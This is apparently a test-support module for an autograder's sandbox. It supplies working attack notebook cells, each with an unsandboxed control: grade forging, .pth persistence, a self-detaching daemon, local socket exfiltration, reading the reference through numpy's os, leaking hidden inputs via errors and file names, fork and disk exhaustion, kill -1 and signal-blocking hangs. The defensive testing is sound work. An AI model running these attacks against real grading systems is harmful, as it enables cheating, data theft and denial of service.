"""Attack submissions, one per class of issue 11, each with its positive control.

Written from the classes the issue describes, not from any list of known exploits. Every
attack is an ordinary notebook: the untouched stub (or the correct solution, where the attack
needs working functions) plus cells of the attacker's; the stub without the lesson's
demonstrations (grading_harness.Notebooks.bare), which run in every job and take no part in
any attack. Each comes with a *control*: the same code run without the sandbox, in a plain
process of the grader's user, showing that the attack does what it claims when nothing stops
it. A test that only showed the attack failing
could pass because the attack was broken; the control rules that out.
"""

import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


@dataclass
class Targets:
    """What an attacker would aim at: every place a grader writes or keeps secrets."""

    outs: list  # the batches' OUT folders
    marker: str
    udp_port: int
    tcp_port: int
    host_ip: str
    site_dirs: list = field(default_factory=list)  # the grader's venv site-packages
    secrets: list = field(default_factory=list)  # glob patterns of the reference's files
    # Glob patterns of Gradescope's /autograder folders as the tests unpack them. A control,
    # which runs its attack unconfined, gives patterns inside its own tmp_path: the tests'
    # real pattern would reach the folders of the Gradescope runs of another xdist worker.
    roots: list = field(default_factory=list)

    def literal(self):
        return repr({"outs": [str(o) for o in self.outs], "marker": self.marker,
                     "udp": self.udp_port, "tcp": self.tcp_port, "host": self.host_ip,
                     "site": self.site_dirs, "secrets": self.secrets, "roots": self.roots})


class Listener:
    """A UDP and a TCP socket on every interface, recording whatever reaches them."""

    def __init__(self):
        self.received = []
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen(16)
        self.udp.settimeout(0.2)
        self.tcp.settimeout(0.2)
        self.running = True
        threading.Thread(target=self._loop, daemon=True).start()

    @property
    def ports(self):
        return self.udp.getsockname()[1], self.tcp.getsockname()[1]

    def _loop(self):
        while self.running:
            try:
                self.received.append(self.udp.recv(4096))
            except OSError:
                pass
            try:
                conn, _ = self.tcp.accept()
                conn.settimeout(1)
                self.received.append(conn.recv(4096) or b"<connected>")
                conn.close()
            except OSError:
                pass

    def saw(self, marker):
        return any(marker.encode() in data or data == b"<connected>" for data in self.received)

    def close(self):
        self.running = False
        self.udp.close()
        self.tcp.close()


def host_ip():
    """An address of this host that is not loopback (falls back to loopback)."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("10.255.255.255", 1))
            return s.getsockname()[0]
    except OSError:
        return "127.0.0.1"


def site_dirs():
    return sorted({p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p)})


# --- the attacks' code ------------------------------------------------------------------------
#
# Each returns the source of one notebook cell (or a function's cell); T is the Targets
# literal, evaluated in the cell.


def forge_outputs_cell(t):
    """Code execution against the grader's outputs: write forged results, records, feedback
    and CSV rows into every OUT folder, and append to the reference wherever it is."""
    return textwrap.dedent(f"""
        import glob, json, os
        T = {t.literal()}
        forged = json.dumps({{"score": 20, "tests": [], "forged": T["marker"]}})
        for out in T["outs"] + [root for pattern in T["roots"] for root in glob.glob(pattern)]:
            for sub in ("results", "records", "feedback"):
                try:
                    os.makedirs(os.path.join(out, sub), exist_ok=True)
                    for stem in ("10_forge_outputs", "00_classmate", "results"):
                        with open(os.path.join(out, sub, stem + ".json"), "w") as f:
                            f.write(forged)
                except OSError:
                    pass
            try:
                with open(os.path.join(out, "final_grades.csv"), "a") as f:
                    f.write("10_forge_outputs.ipynb,5,3,3,6,3,20,1.0,Completed," + T["marker"] + "\\n")
            except OSError:
                pass
        for pattern in T["secrets"]:
            for path in glob.glob(pattern):
                try:
                    with open(path, "a") as f:
                        f.write("\\n# " + T["marker"] + "\\n")
                except OSError:
                    pass
    """)


def daemon_cell(t, delay=3):
    """A double-forked daemon in its own session, meant to outlive the grader and then
    rewrite every OUT folder: the attacker's row full marks, a classmate's zero."""
    payload = (f"import time, os; time.sleep({delay}); "
               f"[open(os.path.join(o, 'final_grades.csv'), 'w').write('hacked {t.marker}') "
               f"for o in {[str(o) for o in t.outs]!r} if os.path.isdir(o)]")
    return textwrap.dedent(f"""
        import os, sys
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)  # a daemon holds nothing of its parent's
                try:
                    os.execv(sys.executable, [sys.executable, "-c", {payload!r}, {t.marker!r}])
                finally:
                    os._exit(0)
            os._exit(0)
        os.waitpid(pid, 0)
    """)


def pth_cell(t):
    """A .pth in the grader's venv: it would run in every later Python the grader starts."""
    return textwrap.dedent(f"""
        import os
        T = {t.literal()}
        for folder in T["site"]:
            try:
                with open(os.path.join(folder, "zz_kit_attack.pth"), "w") as f:
                    f.write("import os; os.environ['KIT_PWNED'] = " + repr(T["marker"]) + "\\n")
            except OSError:
                pass
    """)


PARSER_BOMB = "x = " + "(" * 5000 + "1" + ")" * 5000


def forged_results_cell(t):
    """Stub functions, plus what an in-kernel verdict would need to look like full marks."""
    return textwrap.dedent(f"""
        import json, os
        T = {t.literal()}
        for path in ("/autograder/results/results.json", "results.json", "../results/results.json"):
            try:
                with open(path, "w") as f:
                    json.dump({{"score": 20, "tests": [{{"name": q, "score": 5}} for q in
                               ("attention", "multihead", "positional_encoding",
                                "transformer_block", "student_extension")]}}, f)
            except OSError:
                pass
    """)


LEAKY_FUNCTIONS = {
    "attention": textwrap.dedent("""
        def attention(Q, K, V, mask=None):
            numbers = " ".join(f"{x:.6f}" for x in list(Q.ravel()) + list(K.ravel()))
            print("LEAK", numbers)
            class Leaky:
                def __array__(self, *args, **kwargs):
                    raise ValueError("LEAK " + numbers)
                def __getitem__(self, index):
                    raise KeyError("LEAK " + numbers)
                def __len__(self):
                    return 2
                def __iter__(self):
                    raise RuntimeError("LEAK " + numbers)
            return Leaky()
    """),
    "multihead": textwrap.dedent("""
        def multihead(X, heads, W_O, mask=None):
            raise ValueError("LEAK " + " ".join(f"{x:.6f}" for x in X.ravel()))
    """),
}


def table_attention(table):
    """`attention` answering from a table keyed by a digest of its query matrix: full marks
    on the inputs the table was built from, nothing on any other."""
    return textwrap.dedent(f"""
        import hashlib
        import numpy as np
        _TABLE = {table!r}
        def attention(Q, K, V, mask=None):
            output, weights = _TABLE[hashlib.sha256(np.asarray(Q).round(6).tobytes()).hexdigest()]
            return np.array(output), np.array(weights)
    """)


def table_key(Q):
    import hashlib

    import numpy as np

    return hashlib.sha256(np.asarray(Q).round(6).tobytes()).hexdigest()


def network_cell(t):
    """Exfiltration by UDP and TCP, to loopback and to the host's own address."""
    return textwrap.dedent(f"""
        import socket
        T = {t.literal()}
        for host in ("127.0.0.1", T["host"]):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.sendto(("udp " + T["marker"]).encode(), (host, T["udp"]))
                s.close()
            except OSError:
                pass
            try:
                s = socket.create_connection((host, T["tcp"]), timeout=2)
                s.sendall(("tcp " + T["marker"]).encode())
                s.close()
            except OSError:
                pass
    """)


def deep_tree_cell(depth=1500, files=2000):
    """A tree deep enough that a recursive clean-up (shutil.rmtree) raises RecursionError."""
    return textwrap.dedent(f"""
        import os
        start = os.getcwd()
        for folder in (start, os.environ.get("TMPDIR", "/tmp")):
            try:
                os.chdir(folder)
                for i in range({depth}):
                    os.mkdir("d")
                    os.chdir("d")
            except OSError:
                pass
        os.chdir(start)
        for i in range({files}):
            try:
                open(f"f{{i}}", "w").close()
            except OSError:
                break
    """)


def process_hog_cell(count=400):
    """As many long-lived processes as the system allows, in their own sessions."""
    return textwrap.dedent(f"""
        import os, time
        for i in range({count}):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                os.setsid()
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                time.sleep(600)
                os._exit(0)
    """)


def disk_fill_cell(megabytes=2048):
    """Fill every writable place with data until the disk says no."""
    return textwrap.dedent(f"""
        import os
        chunk = b"x" * (1 << 20)
        for folder in (os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm"):
            try:
                with open(os.path.join(folder, "fill.bin"), "wb") as f:
                    for i in range({megabytes}):
                        f.write(chunk)
            except OSError:
                pass
    """)


KILL_CELL = textwrap.dedent("""
    import os, signal
    for action in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.kill(os.getppid(), signal.SIGKILL),
                   lambda: os.killpg(0, signal.SIGKILL)):
        try:
            action()
        except OSError:
            pass
""")


def secret_reader_function(t):
    """`attention` that reads the reference through a chain the static policy does not see
    (numpy's own `os`), and answers with it."""
    return textwrap.dedent(f"""
        import numpy as np
        _os = np.lib._npyio_impl.os
        import glob as _glob
        def _reference():
            for pattern in {t.secrets!r}:
                for path in _glob.glob(pattern):
                    try:
                        fd = _os.open(path, _os.O_RDONLY)
                        source = _os.read(fd, 1 << 20).decode()
                        _os.close(fd)
                    except OSError:
                        continue
                    space = {{}}
                    try:
                        exec(source, space)
                    except Exception:
                        continue
                    if "attention" in space:
                        return space
            return None
        def attention(Q, K, V, mask=None):
            space = _reference()
            if space is None:
                raise NotImplementedError("no encuentro la referencia")
            return space["attention"](Q, K, V, mask)
    """)


HANG_IN_CALL = textwrap.dedent("""
    import signal
    import numpy as np
    def positional_encoding(n_positions, d_model):
        # Right on every input the notebook, the lab and the public tests use; on a hidden
        # case (an odd or a large d_model), deaf to the alarm and never returning.
        if d_model % 2 or d_model >= 24:
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
            while True:
                pass
        pos = np.arange(n_positions)[:, None]
        omega = 1 / 10000 ** (np.arange(0, d_model, 2) / d_model)
        pe = np.zeros((n_positions, d_model))
        pe[:, 0::2] = np.sin(pos * omega)
        pe[:, 1::2] = np.cos(pos * omega)
        return pe, omega
""")

EXIT_CELL = "import os\nos._exit(0)"


# --- controls: the same code, with nothing in the way ---------------------------------------


def run_plainly(source, timeout=60, cwd=None):
    """Run a cell's source in a plain Python process of this user, no sandbox."""
    return subprocess.run([sys.executable, "-c", source], capture_output=True, text=True,
                          timeout=timeout, cwd=cwd or tempfile.mkdtemp(prefix="control-"))


def processes_with(marker):
    """PIDs whose command line carries ``marker``."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def kill_all(pids):
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def wait_until(predicate, seconds):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.1)
    return predicate()


# --- issue 19: what a student receives, and what a job can observe ------------------------------

# Spells the digits of the inputs into the numbers of an error and of an empty array's shape:
# attention raises what looks like NumPy's broadcast error, its "shapes" pairs of digits of Q
# and K (offset by 20, so that none is a size of the case); multihead returns an empty array
# whose sizes are groups of three digits of X (offset by 1000).
SPELLS_IN_SMALL_INTEGERS = textwrap.dedent("""
    import numpy as np
    def _groups(array, width, offset, count):
        digits = "".join(f"{abs(x):.6f}".replace(".", "") for x in np.ravel(array))
        return [offset + int(digits[i:i + width]) for i in range(0, width * count, width)]
    def attention(Q, K, V, mask=None):
        first, second = _groups(Q, 2, 20, 4), _groups(K, 2, 20, 4)
        raise ValueError("operands could not be broadcast together with shapes "
                         f"({','.join(map(str, first))}) ({','.join(map(str, second))}) ")
    def multihead(X, heads, W_O, mask=None):
        return np.zeros((0, *_groups(X, 3, 1000, 3)))
""")


def spelled_numbers(source, function, inputs):
    """The integers ``source``'s ``function`` spells on ``inputs``: what the sandbox reports of
    its error, or the sizes of what it returns (run here, as the control)."""
    import numpy as np

    from kit_autograder.sandbox.inside.calls import classify

    space = {}
    exec(source, space)
    try:
        result = space[function](**inputs)
    except Exception as exc:
        error = classify(exc)
        return [*error.get("numbers", []), *(n for shape in error.get("shapes", []) for n in shape)]
    return [int(n) for n in np.shape(result)]


# Zeros of the right shape: the largest difference from the reference is the reference's
# largest value, so a message that says how large it is, and where, gives that value away.
RETURNS_ZEROS = textwrap.dedent("""
    import numpy as np
    def attention(Q, K, V, mask=None):
        return np.zeros((len(Q), V.shape[1])), np.zeros((len(Q), len(K)))
    def multihead(X, heads, W_O, mask=None):
        return np.zeros((len(X), W_O.shape[1]))
    def positional_encoding(n_positions, d_model):
        return np.zeros((n_positions, d_model)), np.zeros((d_model + 1) // 2)
    def transformer_block(x, heads, W_O, W1, b1, W2, b2, mask=None):
        return np.zeros_like(x)
""")

# Reads a table of answers from the name its notebook has in the job's folder. The table,
# for the inputs the same bytes always get, rides in the upload's name (or in the name of the
# notebook inside an export zip): "tabla_" + base64(4 bytes of Q's digest + float32 answers).
# It also prints what the job sees (every file's name and digest), for the test to compare
# with the world the hidden inputs hash.
READS_ITS_OWN_NAME = textwrap.dedent("""
    import base64, hashlib, json, os
    import numpy as np
    print("MUNDO " + json.dumps(sorted(
        [name, hashlib.sha256(open(name, "rb").read()).hexdigest()]
        for name in os.listdir(".") if os.path.isfile(name))))
    def _table():
        for name in sorted(os.listdir(".")):
            if "tabla_" in name:
                code = name.split("tabla_", 1)[1].rsplit(".", 1)[0]
                raw = base64.urlsafe_b64decode(code + "=" * (-len(code) % 4))
                return raw[:4], np.frombuffer(raw[4:], dtype=np.float32).astype(float)
        return None, None
    def attention(Q, K, V, mask=None):
        key, values = _table()
        if key != hashlib.sha256(np.asarray(Q).round(6).tobytes()).digest()[:4]:
            raise NotImplementedError("sin tabla para estas entradas")
        n, m, d_v = len(Q), len(K), V.shape[1]
        return values[:n * d_v].reshape(n, d_v), values[n * d_v:n * d_v + n * m].reshape(n, m)
""")


def table_name(inputs, answer, prefix="tabla_", suffix=".ipynb"):
    """A file name carrying ``answer`` (output, weights) for ``inputs``, as the attack reads it."""
    import base64
    import hashlib

    import numpy as np

    key = hashlib.sha256(np.asarray(inputs["Q"]).round(6).tobytes()).digest()[:4]
    values = np.concatenate([np.ravel(part) for part in answer]).astype(np.float32).tobytes()
    return prefix + base64.urlsafe_b64encode(key + values).decode().rstrip("=") + suffix


def markup_cells(payload):
    """``(attention's cell, other cells)`` that put ``payload(tag)`` in every text of a notebook
    that reaches its report: the error of the cell meant to define ``attention`` (it fails
    before the ``def``), printed output, a cell's error message and its first line, an
    exception's class name, and the texts and a key of student_extension."""
    # Not "risk": a risk declared earns its criterion's point, and this attack is scored
    # against the untouched stub.
    fields = ("assumption", "measurement", "conclusion", "limitation")
    extension = {field: payload(field) for field in fields}
    extension[payload("clave")] = "x"
    definition = (f"raise ValueError({payload('definición')!r})\n"
                  "def attention(Q, K, V, mask=None):\n    return None")
    return definition, [
        f"print({payload('salida')!r})",
        f"raise ValueError({payload('mensaje')!r})",
        "".join(f"# {line}\n" for line in payload("línea").splitlines()) + "raise RuntimeError('x')",
        f"raise type({payload('excepción')!r}, (Exception,), {{}})('x')",
        f"resultado = {{'student_extension': {extension!r}}}\n"
        "student_extension = resultado['student_extension']"]
